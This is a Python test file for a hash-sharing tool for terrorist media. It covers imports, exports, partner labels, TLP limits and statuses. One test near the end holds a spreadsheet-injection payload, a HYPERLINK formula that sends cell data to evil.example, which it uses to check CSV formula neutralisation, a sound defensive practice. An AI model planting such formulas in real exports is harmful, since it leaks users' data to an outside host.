"""Exchange files: round trips, ThreatExchange imports, all-or-nothing, and partners' labels kept apart."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import Engine

from jointwatch.errors import ListFormatError
from jointwatch.media.bank import change_status, list_items
from jointwatch.media.exchange import export_bank, import_file
from jointwatch.media.files import contribute_files, match_files
from jointwatch.media.labels import make_labels
from jointwatch.media.matcher import load_matcher
from jointwatch.store.members import Member

PDQ = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"
MD5 = "d41d8cd98f00b204e9800998ecf8427e"
SHA = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
OTHER = "other"


def test_our_formats_round_trip_with_signatures(bank_store: Engine, partners: tuple[Member, Member],
                                                photo_files: dict[str, Path], tmp_path: Path) -> None:
    a, b = partners
    list(contribute_files(bank_store, a.id, "x", [photo_files["astronaut"], photo_files["coffee"]],
                          make_labels("recruitment", "ISIL", "green")))
    for fmt, name in (("jointwatch-csv", "bank.csv"), ("jointwatch-json", "bank.json")):
        assert export_bank(bank_store, tmp_path / name, fmt, member=a.id) == 2
    result = import_file(bank_store, tmp_path / "bank.csv", "jointwatch-csv", b.id, "y", make_labels(OTHER))
    assert (result.created, result.updated) == (2, 0)
    theirs = list_items(bank_store, b.id, member=b.id)
    assert {(i.group, i.content_type, i.tlp, i.origin) for i in theirs} == {
        ("ISIL", "recruitment", "green", "import:jointwatch-csv")}
    # the imported signatures work: a crop matches B's copy too, without B ever seeing the image
    [outcome] = match_files(bank_store, load_matcher(bank_store), b.id, [photo_files["astronaut"]])
    assert {m.item.contributor for m in outcome.matches} == {"Platform A", "Agency B"}
    again = import_file(bank_store, tmp_path / "bank.json", "jointwatch-json", b.id, "y", make_labels(OTHER))
    assert (again.created, again.updated) == (0, 2)


def test_an_import_never_overwrites_another_partners_labels(bank_store: Engine, partners: tuple[Member, Member],
                                                            tmp_path: Path) -> None:
    a, b = partners
    mine = tmp_path / "a.txt"
    mine.write_text(f"pdq {PDQ} logo\n")
    import_file(bank_store, mine, "te-signals", a.id, "x", make_labels("logo", "ISIL", "amber"))
    theirs = tmp_path / "b.txt"
    theirs.write_text(f"# partner B's bank\npdq {PDQ} execution\nmd5 {MD5}\n")
    result = import_file(bank_store, theirs, "te-signals", b.id, "y", make_labels("other", "Al-Qaida", "red"))
    assert (result.created, result.updated) == (2, 0)
    [a_item] = list_items(bank_store, a.id, member=a.id)
    assert (a_item.content_type, a_item.group, a_item.tlp) == ("logo", "ISIL", "amber")
    b_items = {i.pdq or i.md5: i for i in list_items(bank_store, b.id, member=b.id)}
    assert b_items[PDQ].content_type == "execution" and b_items[PDQ].group == "Al-Qaida"
    assert b_items[MD5].content_type == "other"


def test_threatexchange_descriptors(bank_store: Engine, partners: tuple[Member, Member], tmp_path: Path) -> None:
    a, _ = partners
    path = tmp_path / "te.json"
    path.write_text(json.dumps({"data": [
        {"id": "1", "type": "HASH_PDQ", "raw_indicator": PDQ.upper(), "status": "MALICIOUS",
         "tags": {"data": [{"text": "recruitment"}, {"text": "media_type_photo"}]}},
        {"id": "2", "type": "HASH_SHA256", "raw_indicator": SHA, "status": "NON_MALICIOUS", "tags": []},
    ]}))
    result = import_file(bank_store, path, "te-json", a.id, "x", make_labels("propaganda"))
    assert (result.created, result.disputed) == (2, 1)
    items = {i.pdq or i.sha256: i for i in list_items(bank_store, a.id)}
    assert items[PDQ].content_type == "recruitment" and items[PDQ].status == "active"
    assert items[SHA].status == "disputed"  # a known false positive never matches
    assert load_matcher(bank_store).match_hashes(sha256=SHA) == []
    assert [m.distance for m in load_matcher(bank_store).match_hashes(pdq=[PDQ])] == [0]
    # the same descriptor again, now marked a false positive: the item banked before is disputed, not left active
    path.write_text(json.dumps({"data": [{"id": "1", "type": "HASH_PDQ", "raw_indicator": PDQ,
                                          "status": "NON_MALICIOUS", "tags": []}]}))
    again = import_file(bank_store, path, "te-json", a.id, "x", make_labels("propaganda"))
    assert (again.created, again.updated) == (0, 1)
    assert {i.pdq: i.status for i in list_items(bank_store, a.id) if i.pdq} == {PDQ: "disputed"}
    assert load_matcher(bank_store).match_hashes(pdq=[PDQ]) == []


def test_a_jointwatch_file_brings_its_statuses(bank_store: Engine, partners: tuple[Member, Member],
                                              tmp_path: Path) -> None:
    a, _ = partners
    path = tmp_path / "bank.json"

    def bank(status: str) -> str:
        path.write_text(json.dumps({"format": "jointwatch-media-bank", "items": [
            {"md5": MD5, "content_type": "propaganda", "status": status}]}))
        import_file(bank_store, path, "jointwatch-json", a.id, "x", make_labels("propaganda"))
        return {i.md5: i.status for i in list_items(bank_store, a.id)}[MD5]

    assert bank("active") == "active"
    assert bank("disputed") == "disputed"
    assert bank("active") == "active"          # reinstated by its owner's file
    assert bank("withdrawn") == "withdrawn"
    assert bank("active") == "withdrawn"       # withdrawn is final
    path.write_text(json.dumps({"items": [{"md5": MD5, "status": "gone"}]}))
    with pytest.raises(ListFormatError, match="items\\[0\\].*status 'gone'"):
        import_file(bank_store, path, "jointwatch-json", a.id, "x", make_labels("propaganda"))


@pytest.mark.parametrize("fmt", ["te-signals", "te-json"])
def test_a_threatexchange_round_trip_keeps_one_item_per_file(bank_store: Engine, partners: tuple[Member, Member],
                                                             photo_files: dict[str, Path], tmp_path: Path,
                                                             fmt: str) -> None:
    # issue 13: 4 images exported as one hash a line came back as 12 items
    a, b = partners
    list(contribute_files(bank_store, a.id, "x", list(photo_files.values()), make_labels("logo", None, "green")))
    out = tmp_path / "bank.txt"
    assert export_bank(bank_store, out, fmt) == 4
    assert len(out.read_text().splitlines()) == 12  # pdq, md5, sha256 of each
    result = import_file(bank_store, out, fmt, b.id, "y", make_labels(OTHER))
    assert (result.created, result.updated) == (4, 0)
    mine = {(i.md5, i.sha256, i.pdq) for i in list_items(bank_store, a.id, member=a.id)}
    assert {(i.md5, i.sha256, i.pdq) for i in list_items(bank_store, b.id, member=b.id)} == mine


def test_lines_of_one_item_must_agree(bank_store: Engine, partners: tuple[Member, Member], tmp_path: Path) -> None:
    a, _ = partners
    path = tmp_path / "partner.txt"
    path.write_text(f"md5 {MD5} jw-item=x1\nmd5 {'0' * 32} jw-item=x1\n")
    with pytest.raises(ListFormatError, match="partner.txt, line 2: a second md5 for jw-item=x1"):
        import_file(bank_store, path, "te-signals", a.id, "x", make_labels(OTHER))


@pytest.mark.parametrize(("fmt", "text", "where"), [
    ("te-signals", f"pdq {PDQ}\npdq nothex\n", "line 2"),
    ("te-signals", f"pdq {PDQ}\nwhirlpool {PDQ}\n", "line 2"),
    ("jointwatch-csv", f"md5,sha256,pdq,content_type\n{MD5},,,logo\n,,{PDQ},beheading\n", "line 3"),
    ("jointwatch-csv", f"md5,sha256,pdq,pdq_quality\n,,{PDQ},250\n", "line 2"),
    ("jointwatch-json", json.dumps({"items": [{"pdq": PDQ}, {"md5": ""}]}), "items[1]"),
    ("te-json", json.dumps({"type": "HASH_PDQ", "raw_indicator": PDQ}) + '\n{"type": "HASH_PDQ"\n', "line 2"),
])
def test_a_bad_record_names_its_place_and_nothing_is_imported(bank_store: Engine, partners: tuple[Member, Member],
                                                              tmp_path: Path, fmt: str, text: str,
                                                              where: str) -> None:
    a, _ = partners
    path = tmp_path / "partner.txt"
    path.write_text(text)
    with pytest.raises(ListFormatError, match=re.escape(f"partner.txt, {where}:")):
        import_file(bank_store, path, fmt, a.id, "x", make_labels(OTHER))
    assert list_items(bank_store, a.id) == []


def test_export_honours_tlp_and_status(bank_store: Engine, partners: tuple[Member, Member], tmp_path: Path) -> None:
    a, b = partners
    for value, tlp in ((PDQ, "green"), (MD5, "red")):
        path = tmp_path / f"{tlp}.txt"
        path.write_text(f"{'pdq' if value == PDQ else 'md5'} {value}\n")
        import_file(bank_store, path, "te-signals", a.id, "x", make_labels("logo", None, tlp))
    out = tmp_path / "out.txt"
    assert export_bank(bank_store, out, "te-signals") == 1  # red stays home
    assert out.read_text().startswith(f"pdq {PDQ} logo jw-item=")
    assert export_bank(bank_store, out, "te-signals", max_tlp="red") == 1  # red is its contributor's only
    assert export_bank(bank_store, out, "te-signals", max_tlp="red", viewer=a.id) == 2
    [green] = [i for i in list_items(bank_store, None) if i.pdq]
    change_status(bank_store, green.id, b.id, "y", "dispute", "false positive")
    assert export_bank(bank_store, out, "te-signals", viewer=b.id) == 0  # disputed, as B sees it
    assert export_bank(bank_store, out, "te-signals") == 1  # B's dispute is B's alone
    change_status(bank_store, green.id, a.id, "x", "dispute", "agreed: a false positive")
    assert export_bank(bank_store, out, "te-signals") == 0
    assert export_bank(bank_store, out, "te-json", include_inactive=True) == 1
    assert json.loads(out.read_text())["status"] == "NON_MALICIOUS"


def test_csv_export_neutralises_formulas_and_reads_back(bank_store: Engine, partners: tuple[Member, Member],
                                                         tmp_path: Path) -> None:
    a, b = partners
    signals = tmp_path / "a.txt"
    signals.write_text(f"pdq {PDQ} logo\n")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    import_file(bank_store, signals, "te-signals", a.id, "x", make_labels("logo", hostile, "green"))
    out = tmp_path / "bank.csv"
    assert export_bank(bank_store, out, "jointwatch-csv", member=a.id) == 1
    [row] = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    # OWASP: a cell a spreadsheet would run starts with a quote; hashes and numbers are untouched
    assert row["group"] == "'" + hostile and row["pdq"] == PDQ
    # our own import reads what was meant
    import_file(bank_store, out, "jointwatch-csv", b.id, "y", make_labels(OTHER))
    assert export_bank(bank_store, tmp_path / "b.json", "jointwatch-json", member=b.id) == 1
    [theirs] = json.loads((tmp_path / "b.json").read_text())["items"]
    assert theirs["group"] == hostile
